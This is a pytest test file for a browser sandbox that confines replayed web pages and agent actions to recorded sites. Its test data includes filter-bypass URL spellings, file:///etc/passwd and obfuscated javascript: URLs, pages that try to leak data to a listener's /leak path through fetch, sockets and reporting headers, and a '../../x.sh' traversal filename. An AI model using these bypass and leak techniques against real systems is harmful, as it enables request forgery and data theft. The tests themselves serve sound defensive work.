"""Hostile pages and solutions reach the sites of a replay and nothing else; what they tried is on record."""

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import WSMsgType, web

from score_model.errors import UsageError
from score_model.replay import BrowserEnvironment
from score_model.replay._browser.fence import Fence, RefusalLog
from tests.replay.attacks import ATTACKS
from tests.replay.drivers import IDENTITY, Visit, by_id, running_pool
from tests.replay.fake_services import RECORDED, Forbidden, LocalSite, forbidden_listener

pytestmark = pytest.mark.asyncio(loop_scope="module")

_LATEST_S = 0.1


@pytest_asyncio.fixture(loop_scope="module")
async def forbidden() -> AsyncIterator[Forbidden]:
    """A listener that fails the test when anything reaches it."""
    async with forbidden_listener() as listener:
        yield listener
        await asyncio.sleep(_LATEST_S)
        assert listener.reached == []


# --- the listener itself


async def test_the_listener_notices() -> None:
    """The listener that nothing may reach does notice a connection and a datagram."""
    async with forbidden_listener() as listener:
        _, writer = await asyncio.open_connection("127.0.0.1", listener.port)
        writer.write(b"GET / HTTP/1.1\r\n\r\n")
        loop = asyncio.get_running_loop()
        sender, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=("127.0.0.1", listener.port)
        )
        sender.sendto(b"hello")
        await asyncio.sleep(0.1)
        writer.close()
        sender.close()
        assert sorted(what.split()[0] for what in listener.reached) == ["GET", "tcp", "udp"]


# --- what a solution asks for


_OUTSIDE = [
    "file:///etc/passwd",
    "data:text/html,<h1>x</h1>",
    "view-source:http://localhost:8012/",
    "chrome://version",
    "chrome-error://chromewebdata/",
    "about:blank",
    "javascript:document.title=1",
    "JaVa\nScRiPt:document.title=1",
    "\x01 javascript:document.title=1",
    "blob:http://localhost:8012/1234",
    "filesystem:http://localhost:8012/x",
    "ftp://localhost/x",
    "ws://localhost:8012/",
    "http://[",
    "http://localhost:99999/",
    "https://localhost:8012/",
    "http://localhost:8012@127.0.0.1:{port}/",
    "http://127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://[::1]:{port}/",
    "http://2130706433:{port}/",
    "http://0x7f.1:{port}/",
    "http://127.0.0.1:{port}\\@localhost:8012/",
    "//127.0.0.1:{port}/",
    "\\\\127.0.0.1:{port}\\x",
    "http://127.0.0.1:8012/",
    "https://example.com/",
    "http://LOCALHOST.:8012/",
]


async def test_a_solution_opens_nothing_but_the_sites(visit: Visit, forbidden: Forbidden) -> None:
    """An address that is not http(s) of a site is refused before it reaches the browser, and recorded."""
    await visit.show("<h1>here</h1>")
    for url in _OUTSIDE:
        result = await visit.act("navigate", url=url.format(port=forbidden.port))
        assert not result.success, url
        assert "refused" in (result.error or ""), url
        assert (visit.page.url, await visit.page.title()) == (f"{RECORDED}/shown", ""), url
    await visit.wait_until_idle()
    assert visit.page.url == f"{RECORDED}/shown"
    assert {kind for kind, _ in visit.refusals()} == {"navigation"}
    assert len(visit.refusals()) >= len(_OUTSIDE) - 3  # some are spellings of one
    assert visit.site.paths() == ["/shown"]


async def test_a_search_of_the_web_is_refused(visit: Visit) -> None:
    """Searching the web is a navigation beyond the fence."""
    result = await visit.act("search", query="best films")
    assert not result.success
    assert visit.refusals()[0][0] == "navigation"


# --- what a page tries


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
@pytest.mark.parametrize("attack", ["link", "fetch", "web socket", "redirect", "popup"])
async def test_pages_reach_no_address_in_any_spelling(
    visit: Visit, forbidden: Forbidden, attack: str, host: str
) -> None:
    """Names and literal addresses of the same machine on another port are as far away as any other."""
    await _attack(visit, forbidden, attack, host)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_pages_reach_nothing_but_the_sites(visit: Visit, forbidden: Forbidden, attack: str) -> None:
    """Whichever way a page tries to get out, nothing arrives, and what can be seen of it is on record."""
    await _attack(visit, forbidden, attack, "127.0.0.1")


async def _attack(visit: Visit, forbidden: Forbidden, attack: str, host: str) -> None:
    url = f"http://{host}:{forbidden.port}/leak"
    kind, code = ATTACKS[attack]

    async def redirect(_request: web.Request) -> web.Response:
        raise web.HTTPTemporaryRedirect(url)

    async def reporting(_request: web.Request) -> web.Response:
        return web.Response(
            headers={
                "Reporting-Endpoints": f'main="{url}"',
                "NEL": '{"report_to": "main", "max_age": 60, "success_fraction": 1}',
                "Content-Security-Policy": f"default-src 'self'; report-uri {url}; report-to main",
                "Alt-Svc": f'h2="{host}:{forbidden.port}"',
                "Link": f"<{url}>; rel=preload; as=fetch",
                "Refresh": f"0; url={url}",
            }
        )

    visit.site.add("/redirect", redirect)
    visit.site.add("/reporting", reporting)
    visit.site.add("/worker.js", f"fetch('{url}', {{mode: 'no-cors'}})", "text/javascript")
    # From a timer, as pages do: what it throws is the page's own affair.
    await visit.show(
        "<script>const source = text => URL.createObjectURL(new Blob([text]));"
        f"const url = '{url}', host = '{host}:{forbidden.port}'; setTimeout(() => {{ {code} }}, 50)</script>"
    )
    await visit.wait_until_idle()
    if kind is not None:
        wanted = url.replace("http", "ws") if kind == "websocket" else url
        assert (kind, wanted) in visit.refusals()


async def test_the_site_can_be_used_again_after_a_refused_navigation(visit: Visit) -> None:
    """A link beyond the fence leaves the browser in working order: the next navigation and the way back work."""
    await visit.show("<a id=a href='https://elsewhere.example/x'>x</a>")
    assert (await visit.do("click", selector=by_id("a"))).success
    assert ("navigation", "https://elsewhere.example/x") in visit.refusals()
    assert (await visit.do("go_back")).success
    assert visit.page.url == f"{RECORDED}/shown"
    await visit.do("click", selector=by_id("a"))
    assert (await visit.do("navigate", url=f"{RECORDED}/form")).success
    assert visit.page.url == f"{RECORDED}/form"


async def test_external_assets_do_not_hang_a_page(visit: Visit) -> None:
    """A page with styles, scripts and images from elsewhere is at rest about as soon as one without."""
    hosts = [f"https://cdn{n}.example" for n in range(6)]
    html = "".join(
        f"<link rel=stylesheet href={h}/a.css><script src={h}/a.js></script><img src={h}/a.png>" for h in hosts
    )
    await visit.act("navigate", url=f"{RECORDED}{visit.site.add('/page', html)}")
    idle = await visit.wait_until_idle()
    assert idle.busy is None
    assert idle.seconds < 1.5
    assert {kind for kind, _ in visit.refusals()} == {"stylesheet", "script", "image"}


async def test_local_pages_stay_closed_to_a_page(visit: Visit) -> None:
    """A page can't open files, sources or the browser's own pages either, and what it opens of itself is recorded."""
    for url in ("file:///etc/passwd", "view-source:http://localhost:8012/", "chrome://version", "data:text/html,x"):
        await visit.show(f"<a id=a href='{url}'>x</a>")
        await visit.do("click", selector=by_id("a"))
        assert visit.page.url == f"{RECORDED}/shown", url
    await visit.show("<h1>here</h1>")
    await visit.page.evaluate(
        "() => { location = URL.createObjectURL(new Blob(['<h1>mine</h1>'], {type: 'text/html'})) }"
    )
    await visit.wait_until_idle()
    assert visit.refusals()[-1][0] == "navigation"
    assert visit.refusals()[-1][1].startswith("blob:")


async def test_downloads_are_refused(visit: Visit) -> None:
    """A download is refused and recorded, whether it is of the site or made by the page."""

    async def file(_request: web.Request) -> web.Response:
        return web.Response(body=b"x" * 1000, headers={"Content-Disposition": "attachment; filename=../../x.sh"})

    visit.site.add("/file", file)
    await visit.show("<a id=a href=/file download>x</a><a id=b href='data:text/plain,x' download=y>y</a>")
    await visit.do("click", selector=by_id("a"))
    await visit.do("click", selector=by_id("b"))
    assert visit.refusals() == [("download", f"{RECORDED}/file"), ("download", "data:text/plain,x")]
    assert visit.page.url == f"{RECORDED}/shown"


@pytest.mark.parametrize(
    ("what", "code"),
    [
        ("geolocation", "new Promise(r => navigator.geolocation.getCurrentPosition(() => r('given'), () => r('no')))"),
        ("notifications", "Notification.requestPermission().then(p => p === 'granted' ? 'given' : 'no')"),
        ("camera or microphone", "navigator.mediaDevices.getUserMedia({audio: true}).then(() => 'given', () => 'no')"),
        ("clipboard", "navigator.clipboard.readText().then(() => 'given', () => 'no')"),
        ("files", "showOpenFilePicker().then(() => 'given', () => 'no')"),
        ("peer connection", "Promise.resolve().then(() => new RTCPeerConnection()).then(() => 'given', () => 'no')"),
    ],
)
async def test_permissions_are_refused(visit: Visit, what: str, code: str) -> None:
    """What a page asks permission for is refused without a question, and recorded."""
    await visit.show("<h1>here</h1>")
    assert await visit.page.evaluate(f"() => {code}") == "no"
    await visit.wait_until_idle()
    assert visit.refusals() == [("permission", what)]


async def test_the_identity_goes_to_the_sites(visit: Visit) -> None:
    """Every request to a site carries the identity, and the host and origin that were recorded."""
    visit.site.add("/api", "ok", "text/plain")
    await visit.show("<script>fetch('/api', {method: 'POST'})</script>")
    assert visit.site.paths() == ["/shown", "/api"]
    for request in visit.site.seen:
        assert {name: request.headers[name] for name in IDENTITY} == IDENTITY
        assert request.host == "localhost:8012"
    assert visit.site.seen[-1].headers["Origin"] == RECORDED


async def test_web_sockets_to_the_site_work(visit: Visit) -> None:
    """The fence lets a site's own web sockets through."""

    async def echo(request: web.Request) -> web.WebSocketResponse:
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        async for message in socket:
            if message.type is WSMsgType.TEXT:
                await socket.send_str(f"{message.data}!")
        return socket

    visit.site.add("/socket", echo)
    await visit.show("<h1>here</h1>")
    answer = await visit.page.evaluate(
        "() => new Promise(r => { const s = new WebSocket('/socket'); s.onopen = () => s.send('hi'); "
        "s.onmessage = e => { r(e.data); s.close() } })"
    )
    assert answer == "hi!"
    assert visit.refusals() == []


# --- settings


async def test_sites_under_another_scheme_or_path(shared_pool: tuple[Any, LocalSite], tmp_path: Path) -> None:
    """A site below a path is reached by its recorded addresses, with redirects and cookies; a folder gives assets."""
    site = shared_pool[1]
    site.forget()

    async def login(_request: web.Request) -> web.Response:
        response = web.Response(status=303, headers={"Location": f"{site.url}/shop/home"})
        response.set_cookie("session", "s1", path="/shop", domain="127.0.0.1")
        return response

    async def home(request: web.Request) -> web.Response:
        text = (
            f"<h1>{request.cookies.get('session')}</h1><p>{request.headers['X-WebAgent-Id']}</p>"
            "<link rel=stylesheet href=https://cdn.example/css/a.css?v=1><img src=https://cdn.example/../../secret.png>"
        )
        return web.Response(text=text, content_type="text/html")

    async def sent(request: web.Request) -> web.Response:
        return web.json_response({"origin": request.headers.get("Origin"), "body": await request.text()})

    for path, handler in (("/shop/login", login), ("/shop/home", home), ("/shop/sent", sent)):
        site.add(path, handler)
    (tmp_path / "assets" / "cdn.example" / "css").mkdir(parents=True)
    (tmp_path / "assets" / "cdn.example" / "css" / "a.css").write_text("h1 { color: rgb(1, 2, 3) }")
    (tmp_path / "secret.png").write_bytes(b"x")
    sites = {"http://localhost:8001": f"{site.url}/shop/"}
    async with (
        running_pool(sites, assets=tmp_path / "assets") as pool,
        pool.session(BrowserEnvironment(headers=IDENTITY)) as session,
    ):
        visit = Visit(session, site, pool)
        assert (await visit.do("navigate", url="http://localhost:8001/login")).success
        assert visit.page.url == "http://localhost:8001/home"
        assert await visit.text("h1") == "s1"
        assert await visit.text("p") == "agent-1"
        assert await visit.page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
        posted = "fetch(path, {method: 'POST', body: 'x'}).then(r => r.json())"
        for path in ("/sent", "/shop/sent"):
            assert await visit.page.evaluate(f"path => {posted}", path) == {"origin": site.url, "body": "x"}


@pytest.mark.parametrize(
    "sites",
    [
        {"localhost:8012": "http://127.0.0.1:1"},
        {"http://a, MAP * 1.2.3.4:8012": "http://127.0.0.1:1"},
        {"http://localhost:8012": "file:///x"},
        {"http://localhost:8012": "http://127.0.0.1:1, EXCLUDE *"},
        {"http://*:8012": "http://127.0.0.1:1"},
    ],
)
async def test_addresses_that_are_none_are_refused(sites: dict[str, str]) -> None:
    """A site's address can't open the fence: what is no plain address is wrong usage."""
    with pytest.raises(UsageError):
        Fence(sites)


async def test_rules_lead_to_the_sites_and_nowhere_else() -> None:
    """The resolver's rules name each site once, and end with the one that refuses everything."""
    fence = Fence({"http://localhost:8012": "http://127.0.0.1:9", "https://b.example": "https://[::1]:8"})
    assert fence.resolver_rules({}) == "MAP localhost:8012 127.0.0.1:9, MAP b.example:443 [::1]:8, MAP * ~NOTFOUND"
    assert fence.rewritten == {}
    assert list(Fence({"http://localhost:8012": "https://127.0.0.1:9"}).rewritten) == ["http://localhost:8012"]


async def test_the_record_is_bounded() -> None:
    """However much is refused, the record holds each thing once, a hundred at most, with bounded texts."""
    log = RefusalLog()
    for _ in range(2):
        for n in range(150):
            log.add("fetch", f"http://x/{n}" + "y" * 1000, "not one\nof the sites")
    assert len(log.refusals) == 100
    assert log.dropped == 100
    assert max(len(refusal.url) for refusal in log.refusals) == 500
    assert log.refusals[0].reason == "not one of the sites"
